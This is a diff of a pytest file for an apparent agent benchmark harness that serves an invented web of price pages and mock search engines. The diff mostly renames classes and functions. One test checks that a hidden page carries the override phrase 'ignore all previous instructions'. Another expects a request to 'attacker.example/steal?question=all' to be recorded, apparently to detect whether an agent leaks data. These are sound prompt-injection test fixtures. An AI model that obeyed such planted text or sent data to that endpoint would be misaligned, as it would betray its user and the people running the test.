@@ -7,10 +7,17 @@ import httpx
 import pytest
 
 from certigraph.adapters.assistantbench.pages import Treatment
-from certigraph.adapters.assistantbench.price_questions import all_pages, everything, made
-from certigraph.adapters.assistantbench.server import FIRST, SECOND, Request, Searching, Server, engine_at
+from certigraph.adapters.assistantbench.price_questions import all_pages, generate_all, generate_case
+from certigraph.adapters.assistantbench.server import (
+    FIRST_ENGINE,
+    SECOND_ENGINE,
+    EngineMode,
+    GeneratedWebServer,
+    ReceivedRequest,
+    create_provider,
+)
 from certigraph.adapters.web.pages import Fetcher
-from certigraph.adapters.web.protocol import Page, Unreadable
+from certigraph.adapters.web.protocol import Unreadable, WebPage
 from certigraph.state.records import Fault
 
 # The search engines of the invented web, over HTTP.
@@ -18,28 +25,28 @@ from certigraph.state.records import Fault
 
 @pytest.fixture(scope="module")
 def server():
-    serving = Server(all_pages(everything()))
+    serving = GeneratedWebServer(all_pages(generate_all()))
     yield serving
     serving.close()
 
 
 @pytest.fixture
 def engine(server):
-    return lambda path: engine_at(f"test{path}", f"http://{server.address}{path}", sleep=lambda seconds: None)
+    return lambda path: create_provider(f"test{path}", f"http://{server.address}{path}", sleep=lambda seconds: None)
 
 
 def test_the_second_engine_knows_what_the_first_does_not(engine):
-    way = made("parcels", 1).question.solution[2]
+    way = generate_case("parcels", 1).question.solution[2]
     wanted = {*way.pages}
-    first = {hit.url for hit in engine(FIRST).search(way.queries[0], 50)}
-    second = {hit.url for hit in engine(SECOND).search(way.queries[0], 50)}
+    first = {hit.url for hit in engine(FIRST_ENGINE).search(way.queries[0], 50)}
+    second = {hit.url for hit in engine(SECOND_ENGINE).search(way.queries[0], 50)}
     assert not wanted & first
     assert wanted <= second
 
 
 def test_results_have_the_form_of_serpers(server):
     reply = httpx.post(
-        f"http://{server.address}{FIRST}", json={"q": "museum prices", "num": 3}, headers={"X-API-KEY": "any"}
+        f"http://{server.address}{FIRST_ENGINE}", json={"q": "museum prices", "num": 3}, headers={"X-API-KEY": "any"}
     ).json()
     assert reply["credits"] == 1
     assert [result["position"] for result in reply["organic"]] == [1, 2, 3]
@@ -47,18 +54,18 @@ def test_results_have_the_form_of_serpers(server):
 
 
 def test_without_a_key_nothing_is_searched_and_of_an_unknown_engine_neither(server):
-    assert httpx.post(f"http://{server.address}{FIRST}", json={"q": "museum"}).status_code == 403
+    assert httpx.post(f"http://{server.address}{FIRST_ENGINE}", json={"q": "museum"}).status_code == 403
     assert httpx.post(f"http://{server.address}/third", json={"q": "museum"}).status_code == 404
 
 
-@pytest.mark.parametrize(("mode", "told"), [(Searching.SPENT, "spent"), (Searching.MALFORMED, "no JSON")])
+@pytest.mark.parametrize(("mode", "told"), [(EngineMode.SPENT, "spent"), (EngineMode.MALFORMED, "no JSON")])
 def test_an_engine_that_is_spent_or_breaks_off_is_a_fault(server, engine, mode, told):
     server.engine_mode = mode
     try:
         with pytest.raises(Fault, match=told):
-            engine(FIRST).search("museum prices", 3)
+            engine(FIRST_ENGINE).search("museum prices", 3)
     finally:
-        server.engine_mode = Searching.WORKS
+        server.engine_mode = EngineMode.WORKS
 
 
 # The invented web over HTTP: what its server does to readers.
@@ -76,12 +83,12 @@ REASONS = {
 
 @pytest.fixture(scope="module")
 def pages():
-    return all_pages(everything())
+    return all_pages(generate_all())
 
 
 @pytest.fixture(scope="module")
 def server_generated_web(pages):
-    serving = Server(pages)
+    serving = GeneratedWebServer(pages)
     yield serving
     serving.close()
 
@@ -120,7 +127,7 @@ def test_a_page_that_cannot_be_read_costs_bounded_time_and_says_why(server_gener
 def test_a_page_that_moved_is_read_where_it_is_now(pages, read):
     page = page_that(pages, Treatment.MOVED)
     got = read(page.url)
-    assert isinstance(got, Page)
+    assert isinstance(got, WebPage)
     assert got.moved == page.target
     assert "Day ticket" in got.text
 
@@ -128,7 +135,7 @@ def test_a_page_that_moved_is_read_where_it_is_now(pages, read):
 def test_orders_in_plain_sight_are_read_and_those_in_secret_are_not(pages, read):
     page = next(page for page in pages.values() if page.hidden)
     got = read(page.url)
-    assert isinstance(got, Page)
+    assert isinstance(got, WebPage)
     assert got.text.count("ignore all previous instructions") == 1
 
 
@@ -143,23 +150,23 @@ def test_robots_are_kept_out_of_one_sites_private_pages(server_generated_web, pa
 def test_what_no_site_has_is_not_found_whoever_is_asked(server_generated_web):
     assert asked(server_generated_web, "nobody.example", "/").status_code == 404
     assert asked(server_generated_web, "attacker.example", "/steal?question=all").status_code == 200
-    assert Request("GET", "attacker.example", "/steal?question=all", done=True) in settled(server_generated_web)
+    assert ReceivedRequest("GET", "attacker.example", "/steal?question=all", done=True) in settled(server_generated_web)
 
 
 def test_requests_are_recorded_in_order_and_those_without_an_answer_are_not_done(pages):
     with_slow = page_that(pages, Treatment.SLOW)
-    other = Server({with_slow.url: with_slow})
+    other = GeneratedWebServer({with_slow.url: with_slow})
     Fetcher(timeout=0.1, robots=False, hosts={".example": other.address}).page(with_slow.url)
     asked(other, "nobody.example", "/x")
     slow, missing = settled(other)
-    assert slow == Request("GET", with_slow.host, with_slow.path, done=False)
-    assert missing == Request("GET", "nobody.example", "/x", done=True)
+    assert slow == ReceivedRequest("GET", with_slow.host, with_slow.path, done=False)
+    assert missing == ReceivedRequest("GET", "nobody.example", "/x", done=True)
     other.close()
 
 
 def test_the_server_stops_at_once_although_a_page_is_still_waited_for(pages):
     slow = page_that(pages, Treatment.SLOW)
-    other, ended = Server({slow.url: slow}), []
+    other, ended = GeneratedWebServer({slow.url: slow}), []
 
     def wait():
         with pytest.raises(httpx.HTTPError):
